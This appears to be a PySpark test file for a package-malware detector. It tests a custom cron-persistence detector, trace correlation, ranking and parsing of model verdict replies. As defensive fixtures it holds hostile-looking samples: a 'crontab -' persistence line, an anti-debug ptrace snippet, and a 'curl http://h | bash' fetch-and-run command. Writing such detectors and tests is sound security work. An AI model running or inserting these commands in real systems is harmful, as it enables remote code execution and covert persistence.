"""A detector pair of one's own changes file signals, observed categories and decisions."""

import random
from collections import Counter

from pyspark.sql import Window
from pyspark.sql import functions as F

from sparkwarden.functions.ordered import row_numbers
from sparkwarden.operators import detectors as DT
from sparkwarden.operators import evasion as EV
from sparkwarden.operators import evidence as E
from sparkwarden.operators import texts as TX
from sparkwarden.operators import traces as T
from sparkwarden.operators import votes as VT

CRON = DT.Detector(
    "cron_drop",
    lambda as_of: EV.gather([F.when(F.contains("content", F.lit("crontab -")), EV.evasion("cron_drop", "HIGH", F.lit("schedules itself")))]),
    {"cron_write": lambda: (F.col("kind") == "write") & F.coalesce(F.col("target"), F.lit("")).startswith("/srv/jobs")},
    lambda: F.col("cron_write"),
)
MINE = [*DT.PAIRS, CRON]
RUNS = "run_id string, ran boolean, duration_ms bigint, timeout boolean, error string, skipped_unexpected string, platform string"
EVENTS = "run_id string, seq bigint, kind string, severity string, source string, target string"


def test_user_pair_is_planned_into_all_three(spark):
    files = spark.createDataFrame([("r", "a.sh", "crontab - < x"), ("r", "b.py", "import ptrace; sys.gettrace()"), ("q", "c.sh", "echo")], "package_id string, path string, content string")
    signals = EV.evasion_static(files, 0, DT.statics(MINE))
    assert "cron_drop" in {r["category"] for r in signals.collect()}
    assert "cron_drop" not in {r["category"] for r in EV.evasion_static(files, 0).collect()}
    runs = spark.createDataFrame([("r", True, 9000, False, None, "", "Linux"), ("q", True, 9000, False, None, "", "Linux")], RUNS)
    events = [(run, i, kind, "NONE", None, target) for run in "rq" for i, (kind, target) in enumerate([("open", "/a"), ("exec", "/bin/ptrace"), ("connect", "1.2.3.4:5"), ("dns", "x")])]
    events = spark.createDataFrame([*events, ("r", 9, "write", "NONE", None, "/srv/jobs/x"), ("q", 9, "write", "NONE", None, "/home/x")], EVENTS)
    seen = {(r["run_id"], r["category"]) for r in T.trace_correlation(events, runs, MINE).collect()}
    assert seen == {("r", "anti_debug"), ("q", "anti_debug"), ("r", "cron_drop")}
    assert ("r", "cron_drop") not in {tuple(r) for r in T.trace_correlation(events, runs).collect()}
    static = spark.createDataFrame([("r", "cron_drop", "HIGH"), ("r", "other", "HIGH")], "run_id string, category string, severity string")
    ranks = {(r["category"], r["severity"], r["confirmed"]) for r in EV.category_severity(static, T.trace_correlation(events, runs, MINE), "run_id").collect() if r["run_id"] == "r"}
    assert ("cron_drop", "HIGH", True) in ranks
    outcome = lambda d: {r["run_id"]: r["outcome"] for r in T.decide_trace(events, runs, static, d).collect()}
    assert outcome(MINE)["r"] == "malicious" and outcome(DT.PAIRS).get("r") != "malicious"
    assert T.run_facts(events, runs, []).select("categories").first()["categories"] == []


def test_ranks_inside_a_hot_package(spark):
    """Nearly all mentions are of one package; ranks equal those of a plain window."""
    rng = random.Random(5)
    rows = [("hot" if i % 20 else f"p{i % 7}", rng.randrange(5), i) for i in range(3000)]
    df = spark.createDataFrame(rows, "k string, a int, pos bigint")
    plain = df.withColumn("n", F.row_number().over(Window.partitionBy("k").orderBy("a", "pos")).cast("bigint"))
    for width in (1, 50, 10_000):
        assert Counter(map(tuple, row_numbers(df, ["k"], ["a", "pos"], "n", width).select("k", "a", "pos", "n").collect())) == Counter(map(tuple, plain.collect()))
    mentions = spark.createDataFrame([(k, k, "au", pos, False, ["malicious", "risk", "nothing", "backdoor in " + k, ""][a], "d") for k, a, pos in rows], "package_id string, package string, author string, pos bigint, author_query boolean, title string, description string")
    every = E.top_mentions(mentions)
    ranks = [r["rank"] for r in every.where("package_id = 'hot'").orderBy("rank").collect()]
    assert ranks == list(range(1, len(ranks) + 1)) and len(ranks) > 1000
    first = E.top_mentions(mentions, keep=7).collect()
    assert Counter(map(tuple, first)) == Counter(map(tuple, every.where("rank <= 7").select(E.top_mentions(mentions, keep=7).columns).collect()))


def test_whole_commands_unless_limited(spark):
    long = "curl http://h | bash " + "x" * 200
    df = spark.createDataFrame([("c", '{"s": {"command": "%s"}}' % long), ("d", "not json"), ("e", None)], "path string, content string")
    (row,) = TX.command_findings(df).collect()
    assert row["finding"].endswith(long + " ")  # no arguments are joined with a blank
    (row,) = TX.command_findings(df, limit=10).collect()
    assert row["finding"].endswith("in command: curl http:... [212 more characters]")


def test_open_braces_cost_one_search(spark):
    import time

    text = "{" * 200_000 + ' {"verdict": "safe", "confidence": 1}'
    replies = spark.createDataFrame([("p", "m", 1, text), ("p", "m", 2, "{" * 200_000), ("p", "m", 3, '{x} {"verdict": "malicious"} {"verdict": "safe"}')], "package_id string, model string, pos int, reply string")
    start = time.time()
    found = {r["pos"]: r["verdict"] for r in VT.normalise_votes(replies).collect()}
    assert found == {1: "safe", 2: "error", 3: "malicious"} and time.time() - start < 60
